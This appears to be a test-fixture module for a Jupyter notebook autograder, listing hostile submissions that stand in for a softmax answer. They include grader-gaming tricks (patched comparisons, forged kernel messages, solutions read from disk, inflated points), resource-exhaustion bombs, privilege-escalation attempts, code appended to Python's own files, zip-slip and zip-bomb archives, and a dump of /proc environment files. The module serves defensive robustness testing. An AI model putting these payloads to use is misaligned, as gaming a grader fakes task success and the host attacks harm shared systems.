"""A bank of hostile submissions: what somebody would try who has the code and wants a point.

Each of ``CODE`` stands where softmax should be written; all other tasks are answered right, and are
to keep their points. ``CODE_THAT_SPOILS`` attacks later tasks as well. ``FILES`` are whole files.
"""

import io
import json
import os
import zipfile

from tests.grading.hostile_more import MORE, MORE_SPOILS
from tests.grading.notebooks import notebook_of, solutions

ZEROS = "def softmax(z):\n    return np.zeros_like(z)\n"
FRAMES = """
import sys
out = sys.stdout  # what is printed during a check goes nowhere

def found(name):
    frame = sys._getframe()
    while frame:
        for place in (frame.f_locals, frame.f_globals):
            if name in place:
                return place[name]
        frame = frame.f_back
"""
ZMQ = """
import json, zmq
from jupyter_client.session import Session
info = json.load(open([word for word in sys.argv if word.endswith(".json")][0]))
session = Session(key=info["key"].encode(), signature_scheme=info["signature_scheme"])
"""

CODE = {
    "nothing at all": "",
    "an object that equals everything": """
class Same(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, *a, **k): return np.zeros(3)
def softmax(z): return Same()
""",
    "an array class that compares as equal": """
class Same(np.ndarray):
    def __array_function__(self, *a, **k): return True
    def __eq__(self, other): return True
def softmax(z): return np.zeros_like(z).view(Same)
""",
    "comparisons are patched": "np.allclose = np.isclose = np.array_equal = lambda *a, **k: True\n"
    "np.testing.assert_allclose = lambda *a, **k: None\n" + ZEROS,
    "JSON is patched": "import json\njson.dumps = lambda *a, **k: '[' + ', '.join(8 * ['true']) + ']'\n"
    + ZEROS,
    "an input transformer drops checks": """
ip = get_ipython()
ip.input_transformers_post.append(lambda lines: [l for l in lines if "assert" not in l and "exec" not in l])
""",
    "run_cell reports success": """
shell = type(get_ipython())
old = shell.run_cell
def run_cell(self, raw, *a, **k):
    return old(self, "pass" if "nonce" in raw else raw, *a, **k)
shell.run_cell = run_cell
""",
    "exec is replaced": """
import builtins
real = builtins.exec
def exec_(source, *a):
    if "def show" not in source:
        return real(source, *a)
    nonce = source.split("show(")[-1].split(chr(39))[1]
    print()
    print(nonce, "[" + ", ".join(8 * ['{"array": [0.5], "kind": "f", "dtype": "float64", "shape": []}']) + "]")
builtins.exec = exec_
""",
    "many guesses with the right nonce": FRAMES
    + """
def softmax(z):
    nonce = found("nonce")
    for guess in range(50):
        print(file=out)
        frame = '[{"array": [%g], "kind": "f", "dtype": "float64", "shape": []}]'
        print(nonce, frame % (guess / 50), file=out)
    return np.zeros_like(z)
""",
    "a frame before the check": "print('\\n' + 32 * '0' + ' []')\n" + ZEROS,
    "the book's own package": "from deeplearn_utils.kernels.activations import softmax",
    "the book's own package, by another name": """
import importlib
softmax = importlib.import_module("deep" + "learn_utils.kernels.activations").softmax
""",
    "the book's own package, from where it lies": """
import glob, sys
for place in sys.path + ["/home", "/root", "/tmp", "/srv", "/opt", "/proc/1/root", "/proc/1/cwd"]:
    for file in glob.glob(place + "/**/activations.py", recursive=True)[:50]:
        if "deeplearn" in file:
            exec(open(file).read())
def softmax_(z): return softmax(z)
""",
    "the solution, from the disk": """
import glob, json, os
for place in ("/proc/1/root", "/proc/1/cwd", "/tmp", "/home", "/root", "/usr/share", "/srv", os.getcwd()):
    for root, folders, files in os.walk(place):
        for name in files:
            if name.endswith(".ipynb") and "01_networks" in name:
                for cell in json.load(open(os.path.join(root, name)))["cells"]:
                    if "BEGIN SOLUTION" in "".join(cell["source"]) and "def softmax" in "".join(cell["source"]):
                        exec("".join(cell["source"]))
""",
    "the right values, from the grader's memory": """
import os
def softmax(z):
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                text = open(f"/proc/{pid}/mem", "rb").read(100)
            except OSError:
                pass
            for fd in os.listdir(f"/proc/{pid}/fd") if pid == "1" else []:
                print(os.readlink(f"/proc/{pid}/fd/{fd}"))
    return np.zeros_like(z)
""",
    "the grader is traced": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in range(1, 200):
    libc.ptrace(16, pid, 0, 0)
    libc.process_vm_writev(pid, 0, 0, 0, 0, 0)
"""
    + ZEROS,
    "messages are forged": "import sys"
    + ZMQ
    + """
def softmax(z):
    socket = zmq.Context.instance().socket(zmq.DEALER)
    socket.connect(f"ipc://{info['ip']}-1")
    session.send(socket, "execute_request", {"code": "print('forged')", "silent": False})
    pub = get_ipython().kernel.iopub_socket
    for kind, content in (("stream", {"name": "stdout", "text": "true"}),
                          ("status", {"execution_state": "idle"}),
                          ("execute_reply", {"status": "ok"}), ("junk", {}), ("error", {"ename": 3})):
        session.send(pub, kind, content, parent=get_ipython().kernel.get_parent())
    return np.zeros_like(z)
""",
    "raw rubbish on the sockets": "import sys"
    + ZMQ
    + """
def softmax(z):
    for port in (1, 2, 3, 4, 5):
        socket = zmq.Context.instance().socket(zmq.DEALER)
        socket.connect(f"ipc://{info['ip']}-{port}")
        socket.send_multipart([b"<IDS|MSG>", b"", b"{", b"[" * 10000, b"x", b"{}"])
    return np.zeros_like(z)
""",
    "the process ends": "def softmax(z):\n    import os\n    os._exit(0)",
    "SystemExit": "def softmax(z):\n    raise SystemExit(0)",
    "exit()": "def softmax(z):\n    exit()",
    "everything is killed": "def softmax(z):\n    import os\n    os.kill(-1, 9)\n    os.kill(os.getpid(), 9)",
    "the process stops itself": "def softmax(z):\n    import os, signal\n    os.kill(os.getpid(), signal.SIGSTOP)",
    "a crash in C": "def softmax(z):\n    import ctypes\n    ctypes.string_at(0)",
    "abort": "def softmax(z):\n    import os\n    os.abort()",
    "recursion without end": "def softmax(z):\n    import sys\n    sys.setrecursionlimit(10**9)\n    return softmax(z)",
    "a loop without end": "def softmax(z):\n    while True:\n        pass",
    "a loop that cannot be interrupted": """
def softmax(z):
    import signal
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        try:
            while True: pass
        except BaseException: pass
""",
    "a long sleep": "def softmax(z):\n    import time\n    time.sleep(10**6)",
    "a loop in C": "def softmax(z):\n    return sum(range(10**12))",
    "a question to the user": "def softmax(z):\n    return input('your password: ')",
    "a fork bomb": "def softmax(z):\n    import os\n    while True:\n        try: os.fork()\n        except OSError: pass",
    "a thread bomb": """
def softmax(z):
    import threading, time
    while True:
        try: threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except RuntimeError: pass
""",
    "all memory": "def softmax(z):\n    rows = []\n    while True:\n        rows.append(np.ones(1 << 22))",
    "all memory, in children": """
def softmax(z):
    import os, time
    for _ in range(8):
        if os.fork() == 0:
            kept = [np.ones(1 << 24)]
            time.sleep(1000)
    time.sleep(1000)
""",
    "memory that belongs to no process": """
import ctypes, os
def softmax(z):
    for name in ("memfd",):
        fd = os.memfd_create(name)
        while True: os.write(fd, bytes(1 << 20))
""",
    "shared memory of System V": """
import ctypes
def softmax(z):
    libc = ctypes.CDLL(None, use_errno=True)
    for key in range(100):
        if libc.shmget(0, 1 << 28, 0o1666) < 0: raise OSError(ctypes.get_errno())
    return np.zeros_like(z)
""",
    "the disk is filled": """
def softmax(z):
    import os
    for place in ("/tmp", "/dev/shm", "/run/kernel", "/dev", "/", "/var/tmp", "/etc"):
        try:
            for number in range(1000):
                with open(f"{place}/fill{number}", "wb") as file: file.write(bytes(1 << 24))
        except OSError: pass
    return np.zeros_like(z)
""",
    "output without end": "import sys\nout = sys.stdout\ndef softmax(z):\n    while True:\n"
    "        print('x' * 1000, file=out)",
    "20,000 displays": "def softmax(z):\n    for k in range(20_000):\n        display(k)\n    return np.zeros_like(z)",
    "300 MB in one message": "import sys\nout = sys.stdout\ndef softmax(z):\n"
    "    print('x' * 300_000_000, file=out)\n    return np.zeros_like(z)",
    "a message of many parts": """
def softmax(z):
    pub = get_ipython().kernel.iopub_socket
    part = bytes(1 << 21)
    for _ in range(20):
        get_ipython().kernel.session.send(pub, "stream", {"name": "stdout", "text": ""}, buffers=[part] * 200)
    return np.zeros_like(z)
""",
    "output from a thread, for ever": """
import sys, threading
out = sys.stdout
def flood():
    while True: print("y" * 100, file=out)
def softmax(z):
    threading.Thread(target=flood, daemon=True).start()
    return np.zeros_like(z)
""",
    "a value of a million numbers": "def softmax(z):\n    return np.zeros(1_000_000)",
    "a value that is nested deep": "def softmax(z):\n    x = []\n    for _ in range(100_000): x = [x]\n    return x",
    "a value that contains itself": "def softmax(z):\n    x = []\n    x.append(x)\n    return x",
    "numbers that are too long": "def softmax(z):\n    return [10 ** 5000]",
    "nan and inf": "def softmax(z):\n    return z * np.nan",
    "half the digits": "def softmax(z):\n    e = np.exp(z - z.max(-1, keepdims=True))\n"
    "    return np.round(e / e.sum(-1, keepdims=True), 3)",
    "float16": "def softmax(z):\n    e = np.exp(z - z.max(-1, keepdims=True))\n"
    "    return (np.round(e / e.sum(-1, keepdims=True), 2)).astype('float16')",
    "an error whose name tells the input": "def softmax(z):\n    raise type('E' + repr(z.tolist()), (Exception,), {})(z)",
    "an error whose name is like a known one": "def softmax(z):\n    raise type('ValueError', (Exception,), {})(z)",
    "control characters": "def softmax(z):\n    print('\\x1b]0;owned\\x07\\x1b[2J', chr(0x202e))\n    raise Exception('\\x1b[31m')",
    "HTML": "def softmax(z):\n    raise type('<script>alert(1)</script>', (Exception,), {})",
    "the network": "import socket\ndef softmax(z):\n    return socket.create_connection(('192.0.2.1', 80), 2)",
    "sockets of the host": """
import socket
def softmax(z):
    for place in ("/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_socket", "\\0agent"):
        s = socket.socket(socket.AF_UNIX)
        try: s.connect(place); return np.ones_like(z)
        except OSError: pass
    return np.zeros_like(z)
""",
    "mounts and name spaces": """
import ctypes, os
def softmax(z):
    libc = ctypes.CDLL(None, use_errno=True)
    done = [libc.unshare(0x10000000), libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), libc.setns(3, 0)]
    assert all(result < 0 for result in done) and os.system("unshare -Ur true 2>/dev/null") != 0
    return np.zeros_like(z)
""",
    "another user's powers": """
import os
def softmax(z):
    for change in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.chroot("/tmp")):
        try: change(); print("changed")
        except OSError: pass
    os.system("sudo -n true 2>/dev/null; su -c true 2>/dev/null </dev/null")
    return np.zeros_like(z)
""",
    "Python's own files": """
import os, sys, numpy
for place in (numpy.__file__, os.__file__, sys.executable, sys.prefix + "/lib/python/sitecustomize.py"):
    try:
        with open(place, "a") as file: file.write("import os; os.system('touch /tmp/owned')")
    except OSError: pass
"""
    + ZEROS,
    "a process that stays": """
import os, time
def softmax(z):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(100_000)
        os._exit(0)
    return np.zeros_like(z)
""",
    "limits are lifted": """
import resource
def softmax(z):
    for name in dir(resource):
        if name.startswith("RLIMIT"):
            try: resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY,) * 2)
            except (ValueError, OSError): pass
    while True: np.ones(1 << 27)
""",
    "nbval is told to skip": "# NBVAL_SKIP\n# NBVAL_IGNORE_OUTPUT\n# NBVAL_RAISES_EXCEPTION\n"
    + ZEROS,
    "a cell magic": "%%bash\nls -R / | head -1000; cat /proc/*/environ; sleep 0",
    "magics that reset": "%reset -f\nimport numpy as np\n" + ZEROS,
    "a syntax error": "def softmax(z:",
    "a NUL character": "def softmax(z):\x00\n    return z",
    "half a character": "x = '\ud800'",
    "a cell of 300 kB": "#" * 300_000,
    "the sockets are replaced by links": """
import os
def softmax(z):
    for name in os.listdir("/run/kernel"):
        os.remove("/run/kernel/" + name)
        os.symlink("/etc/passwd", "/run/kernel/" + name)
    os._exit(1)
""",
    "a clock that stands still": "import time\ntime.monotonic = time.time = lambda: 0\n" + ZEROS,
    "modules are emptied": """
import sys
for name in ("json", "math", "numpy"):
    vars(sys.modules[name]).clear()
""",
    "stdout is closed": "import os, sys\nsys.stdout.close()\n" + ZEROS,
    **MORE,
}

SPOILS = {
    "JSON is patched",
    "comparisons are patched",
    "an input transformer drops checks",
    "run_cell reports success",
    "exec is replaced",
    "a clock that stands still",
    "modules are emptied",
    "magics that reset",
    *MORE_SPOILS,
}
"""What a student does to the kernel for good may cost them later tasks too, never give points."""


def hostile_notebooks(assignment):
    """Yield (name, bytes) of a notebook for each of ``CODE``."""
    for name, source in CODE.items():
        yield name, as_file(assignment, source)


def as_file(assignment, source):
    """Return a submission whose softmax is ``source``; half characters are written as JSON can."""
    text = notebook_of(assignment, solutions(assignment) | {"softmax": "HERE"}).decode()
    return text.replace(json.dumps("HERE"), json.dumps(source)).encode()


def _changed(assignment, change):
    notebook = json.loads(notebook_of(assignment, {}))
    change(notebook)
    return json.dumps(notebook).encode()


def _own_check(notebook):
    marks = {"grade": True, "solution": False, "points": 1000, "grade_id": "mine", "locked": True}
    cell = {"cell_type": "code", "source": "print('OK')", "outputs": [], "execution_count": 1}
    notebook["cells"].insert(0, {**cell, "metadata": {"nbgrader": marks}})


def _points(notebook):
    for cell in notebook["cells"]:
        if "points" in cell["metadata"].get("nbgrader", {}):
            cell["metadata"]["nbgrader"]["points"] = 1000


def _checks_emptied(notebook):
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            cell["source"], cell["metadata"]["tags"] = "", ["nbval-skip"]


def _checks_are_answers(notebook):
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            cell["metadata"]["nbgrader"] |= {"solution": True, "grade": False}
            cell["source"] = "print('True')"


def _kernel(notebook):
    notebook["metadata"]["kernelspec"] = {"name": "../../bin/sh", "display_name": "x"}


def _no_cells(notebook):
    notebook["cells"] = [None, 3, "x", [], {}, {"metadata": []}, {"metadata": {"nbgrader": 7}}]


def _odd_ids(notebook):
    for cell, odd in zip(notebook["cells"], (None, 1, [], {}, True, "x" * 10**6), strict=False):
        cell["metadata"] = {"nbgrader": {"grade_id": odd, "solution": True}}


def _odd_sources(notebook):
    for cell, odd in zip(notebook["cells"], (None, 1, [1], {}, True, [["x"]]) * 9, strict=False):
        cell["source"] = odd


def _same_ids(notebook):
    notebook["cells"] = [cell | {"id": "same"} for cell in notebook["cells"] * 2]


def _nan(notebook):
    notebook["cells"].append(float("nan"))
    notebook["metadata"]["nan"] = notebook["nbformat"] = float("inf")


def _old(notebook):
    notebook["worksheets"] = [{"cells": notebook.pop("cells")}]


CHANGES = {
    "a check of their own": _own_check,
    "points of their own": _points,
    "checks emptied": _checks_emptied,
    "checks that are answers": _checks_are_answers,
    "a kernel of their own": _kernel,
    "cells that are none": _no_cells,
    "odd ids": _odd_ids,
    "odd sources": _odd_sources,
    "each cell twice, with one id": _same_ids,
    "an old format": _old,
    "numbers that are none": _nan,
}


def hostile_files(assignment):
    """Yield (name, bytes) of files that are odd as files."""
    for name, change in CHANGES.items():
        yield name, _changed(assignment, change)
    yield "empty", b""
    yield "binary", os.urandom(5000)
    yield "half", notebook_of(assignment, {})[:3000]
    yield "deep JSON", b"[" * 200_000 + b"]" * 200_000
    yield "a number", b"3"
    yield "UTF-16", notebook_of(assignment, {}).decode().encode("utf-16")
    yield "11 MB", b'{"cells": ["' + b"x" * (11 << 20) + b'"]}'
    yield "long number", b'{"cells": [' + b"9" * 100_000 + b"]}"


def write_all(assignment, folder):
    """Write the whole bank below a folder, and honest work beside it."""
    honest = notebook_of(assignment, solutions(assignment))
    for name in ("honest 1", "honest 2"):
        (folder / f"{name}.ipynb").write_bytes(honest)
    for name, content in [*hostile_notebooks(assignment), *hostile_files(assignment)]:
        (folder / f"{name.replace('/', ' ')}.ipynb").write_bytes(content)
    (folder / "link.ipynb").symlink_to("/etc/passwd")
    (folder / "link to a solution.ipynb").symlink_to(folder / "honest 1.ipynb")
    os.mkfifo(folder / "pipe.ipynb")
    (folder / "folder.ipynb").mkdir()
    (folder / "link to a folder").symlink_to("/")
    (folder / "=HYPERLINK(1).ipynb").write_bytes(honest)
    (folder / "\x1b[2Jname.ipynb").write_bytes(honest)
    (folder / "two notebooks").mkdir()
    for name, content in ("a", honest), ("b", honest + b"\n"):
        (folder / "two notebooks" / f"{name}.ipynb").write_bytes(content)
    (folder / "zip that leaves.zip").write_bytes(leaving_zip(honest))
    (folder / "zip bomb.zip").write_bytes(bomb())
    (folder / "half a zip.zip").write_bytes(bomb()[:200])


def leaving_zip(content):
    """Return a zip whose entries have names that lead out of it, or are links."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("../../out.ipynb", content)
        archive.writestr("/tmp/out.ipynb", content)
        link = zipfile.ZipInfo("link.ipynb")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return file.getvalue()


def bomb():
    """Return a zip of a few kB that unpacks to 300 MB."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb.ipynb", b"0" * (300 << 20))
    return file.getvalue()
